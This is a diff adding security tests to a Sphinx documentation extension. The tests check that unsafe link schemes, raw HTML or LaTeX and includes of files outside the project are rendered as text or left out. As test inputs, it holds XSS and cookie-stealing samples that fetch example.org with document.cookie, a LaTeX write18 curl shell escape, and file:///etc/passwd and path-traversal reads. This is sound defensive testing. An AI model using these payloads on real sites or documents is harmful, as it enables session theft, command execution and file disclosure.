@@ -10,13 +10,14 @@ from __future__ import annotations
 
 from collections.abc import Callable
 from pathlib import Path
+from urllib.parse import unquote
 
 import pytest
 from sphinx.testing.util import SphinxTestApp
 
 from sphinx_kommun.testing import latexmk, line_of, pdf_text, warning_lines
 
-from .conftest import append, html_text
+from .conftest import append, edit, html_text
 
 
 @pytest.mark.parametrize("builder", ["html", "latex"])
@@ -197,3 +198,268 @@ def test_source_text_is_composed_and_loses_its_byte_order_marks() -> None:
     assert normalise_source("\ufeffSocialna\u0308mnden\n\ufeff.. remiss::\n") == (
         "Socialnämnden\n.. remiss::\n"
     )
+
+
+# -- safety -------------------------------------------------------------------
+
+QUOTED = "   Insatserna bör bygga på stadsdelens egna förutsättningar.\n"
+
+
+def links_in(path: Path) -> list[str]:
+    from bs4 import BeautifulSoup
+
+    soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
+    body = soup.find("div", class_="body") or soup
+    # (docutils cloaks the @ of an e-mail address as %40)
+    return [unquote(a["href"]) for a in body.find_all("a", href=True)]
+
+
+@pytest.mark.parametrize(
+    ("uri", "scheme"),
+    [
+        ("javascript:alert(1)", "javascript"),
+        ("JavaScript:alert(1)", "javascript"),
+        ("data:text/html;base64,PHNjcmlwdD4=", "data"),
+        ("vbscript:msgbox(1)", "vbscript"),
+        ("file:///etc/passwd", "file"),
+        ("ms-excel:ofe|u|https://example.org/x.xls", "ms-excel"),
+    ],
+)
+def test_a_link_with_an_unsafe_scheme_is_text_on_the_page_and_in_the_quote(
+    uri: str,
+    scheme: str,
+    project_copy: Callable[[str], Path],
+    build: Callable[..., SphinxTestApp],
+) -> None:
+    src = project_copy("case")
+    path = src / "yttrande-kungsholmen.rst"
+    edit(path, QUOTED, f"   Insatserna bör bygga på `förutsättningar <{uri}>`_.\n")
+    app = build(src)
+    assert warning_lines(app) == [
+        f"yttrande-kungsholmen.rst:{line_of(path, 'Insatserna')}: WARNING: länken "
+        f"till '{uri}' skrivs ut som text: adresser som börjar med '{scheme}:' "
+        "tillåts inte (se kommun_url_schemes) [kommun.unsafe]"
+    ]
+    for page in ("yttrande-kungsholmen.html", "utlatande.html"):
+        assert not any(scheme in href.lower() for href in links_in(app.outdir / page))
+        assert "Insatserna bör bygga på förutsättningar." in html_text(
+            app.outdir / page
+        )
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "https://start.stockholm/",
+        "http://example.org/a:b",
+        "mailto:registrator@stockholm.se",
+        "tel:+46850829000",
+        "ftp://ftp.example.org/underlag.pdf",
+        "annat.html",
+        "underlag/bilaga:1.pdf",
+    ],
+)
+def test_a_link_with_a_safe_scheme_or_a_relative_one_stays_a_link(
+    uri: str,
+    project_copy: Callable[[str], Path],
+    build: Callable[..., SphinxTestApp],
+) -> None:
+    src = project_copy("case")
+    edit(
+        src / "yttrande-kungsholmen.rst",
+        QUOTED,
+        f"   Insatserna bör bygga på `förutsättningar <{uri}>`_.\n",
+    )
+    app = build(src)
+    assert warning_lines(app) == []
+    for page in ("yttrande-kungsholmen.html", "utlatande.html"):
+        assert uri in links_in(app.outdir / page)
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        ":download:`underlaget <javascript://%0aalert(1)>`",
+        ".. image:: data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
+        ".. image:: https://start.stockholm/logga.png\n   :target: javascript:alert(1)",
+    ],
+)
+def test_a_download_or_image_with_an_unsafe_scheme_is_left_out(
+    written: str,
+    project_copy: Callable[[str], Path],
+    build: Callable[..., SphinxTestApp],
+) -> None:
+    src = project_copy("case")
+    append(src / "annat.rst", f"\n{written}\n\nTexten efter står kvar.\n")
+    app = build(src)
+    lines = warning_lines(app)
+    at = line_of(src / "annat.rst", written.splitlines()[0])
+    assert len(lines) == 1 and lines[0].startswith(f"annat.rst:{at}: WARNING: ")
+    assert lines[0].endswith("tillåts inte (se kommun_url_schemes) [kommun.unsafe]")
+    page = (app.outdir / "annat.html").read_text(encoding="utf-8")
+    assert "javascript:" not in page and "data:image" not in page
+    assert "Texten efter står kvar." in html_text(app.outdir / "annat.html")
+
+
+def test_a_project_may_allow_another_scheme(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    src = project_copy("bad-unsafe-link")
+    uri = "javascript:alert(document.cookie)"
+    assert uri not in links_in(build(src).outdir / "index.html")
+    app = build(
+        src,
+        confoverrides={"kommun_url_schemes": ["https", "javascript"]},
+        freshenv=True,
+    )
+    assert warning_lines(app) == []
+    assert uri in links_in(app.outdir / "index.html")
+
+
+def test_a_link_in_an_option_is_text_and_the_option_is_kept(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    app = build(project_copy("bad-unsafe-link"))
+    assert not any("javascript" in href for href in links_in(app.outdir / "index.html"))
+    assert "Bilaga Remissunderlag" in html_text(app.outdir / "index.html")
+
+
+SECRET = "HEMLIGT-INNEHÅLL"
+#: a one-pixel GIF
+GIF = (
+    b"GIF89a\x01\x00\x01\x00\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
+    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
+)
+
+
+@pytest.mark.parametrize(
+    ("block", "what"),
+    [
+        (".. include:: {path}", "'.. include::'"),
+        (".. literalinclude:: {path}", "'.. literalinclude::'"),
+        (".. csv-table:: Tabell\n   :file: {path}", "'.. csv-table::'"),
+        (".. image:: {image}", "'.. image::'"),
+        (".. figure:: {image}\n\n   Bildtext som står kvar.", "'.. figure::'"),
+        ("Se :download:`filen <{path}>`.", ":download:"),
+    ],
+)
+@pytest.mark.parametrize("how", ["relative", "absolute", "link"])
+def test_a_file_outside_the_project_is_left_out(
+    block: str,
+    what: str,
+    how: str,
+    project_copy: Callable[[str], Path],
+    build: Callable[..., SphinxTestApp],
+) -> None:
+    src = project_copy("case")
+    outside = src.parent / "utanfor"
+    outside.mkdir()
+    (outside / "hemligt.txt").write_text(f"{SECRET},1\n", encoding="utf-8")
+    (outside / "hemligt.gif").write_bytes(GIF)
+    if how == "relative":
+        path, image = "../utanfor/hemligt.txt", "../utanfor/hemligt.gif"
+    elif how == "absolute":
+        # Sphinx reads an absolute path in the source directory, except
+        # csv-table's, which is read as it is when it exists
+        path, image = str(outside / "hemligt.txt"), str(outside / "hemligt.gif")
+    else:
+        (src / "genvag").symlink_to(outside)
+        path, image = "genvag/hemligt.txt", "genvag/hemligt.gif"
+    written = block.format(path=path, image=image)
+    append(src / "annat.rst", f"\n{written}\n\nTexten efter står kvar.\n")
+    app = build(src)
+    lines = warning_lines(app)
+    if how == "absolute" and "csv-table" not in block:
+        # not outside: the source directory's /utanfor/…, which does not exist
+        assert all("kommun.unsafe" not in line for line in lines), lines
+        return
+    shown = image if "image" in block or "figure" in block else path
+    at = line_of(src / "annat.rst", written.splitlines()[0])
+    assert lines == [
+        f"annat.rst:{at}: WARNING: {what} hänvisar till '{shown}' utanför "
+        "projektets källmapp; det tas inte med (kommun_allow_outside_files = True "
+        "tillåter det) [kommun.unsafe]"
+    ]
+    text = html_text(app.outdir / "annat.html")
+    assert SECRET not in text
+    assert "Texten efter står kvar." in text
+    if "figure" in block:
+        assert "Bildtext som står kvar." in text
+    copied = [p.name for p in app.outdir.rglob("hemligt.*")]
+    assert copied == []
+
+
+def test_a_project_may_allow_files_outside(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    src = project_copy("case")
+    (src.parent / "gemensamt.txt").write_text(f"{SECRET}\n", encoding="utf-8")
+    append(src / "annat.rst", "\n.. include:: ../gemensamt.txt\n")
+    app = build(src, confoverrides={"kommun_allow_outside_files": True})
+    assert warning_lines(app) == []
+    assert SECRET in html_text(app.outdir / "annat.html")
+
+
+def test_raw_html_is_printed_as_text(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    app = build(project_copy("bad-unsafe-raw"))
+    page = (app.outdir / "index.html").read_text(encoding="utf-8")
+    assert "<script>fetch" not in page
+    text = html_text(app.outdir / "index.html")
+    assert "<script>fetch('https://example.org/?' + document.cookie)</script>" in text
+    assert "Förvaltningen har inget att tillägga." in text
+
+
+def test_raw_latex_is_printed_as_text(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    src = project_copy("bad-unsafe-raw")
+    edit(src / "index.rst", ".. raw:: html", ".. raw:: latex")
+    edit(
+        src / "index.rst",
+        "<script>fetch('https://example.org/?' + document.cookie)</script>",
+        "\\immediate\\write18{curl https://example.org}",
+    )
+    app = build(src, "latex")
+    assert len(warning_lines(app)) == 1
+    tex = (app.outdir / "ks-2020-1.tex").read_text(encoding="utf-8")
+    assert "\\immediate\\write18" not in tex
+    assert "write18" in tex
+
+
+def test_a_role_derived_from_raw_is_printed_as_text(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    src = project_copy("case")
+    append(
+        src / "annat.rst",
+        '\n.. role:: html(raw)\n   :format: html\n\nSe :html:`<b onclick="x()">här</b>`.\n',
+    )
+    app = build(src)
+    at = line_of(src / "annat.rst", "Se :html:")
+    assert warning_lines(app) == [
+        f"annat.rst:{at}: WARNING: :html: skrivs ut som text, inte som HTML eller "
+        "LaTeX (kommun_allow_raw = True tillåter det) [kommun.unsafe]"
+    ]
+    page = (app.outdir / "annat.html").read_text(encoding="utf-8")
+    assert '<b onclick="x()">' not in page
+    assert 'Se <b onclick="x()">här</b>.' in html_text(app.outdir / "annat.html")
+
+
+def test_a_project_may_allow_raw_but_not_a_raw_file_outside(
+    project_copy: Callable[[str], Path], build: Callable[..., SphinxTestApp]
+) -> None:
+    src = project_copy("bad-unsafe-raw")
+    (src.parent / "sidfot.html").write_text(f"<p>{SECRET}</p>\n", encoding="utf-8")
+    append(src / "index.rst", "\n.. raw:: html\n   :file: ../sidfot.html\n")
+    app = build(src, confoverrides={"kommun_allow_raw": True})
+    assert warning_lines(app) == [
+        f"index.rst:{line_of(src / 'index.rst', ':file: ../sidfot.html') - 1}: "
+        "WARNING: '.. raw:: html' hänvisar till '../sidfot.html' utanför "
+        "projektets källmapp; det tas inte med (kommun_allow_outside_files = True "
+        "tillåter det) [kommun.unsafe]"
+    ]
+    page = (app.outdir / "index.html").read_text(encoding="utf-8")
+    assert "<script>fetch" in page
+    assert SECRET not in page
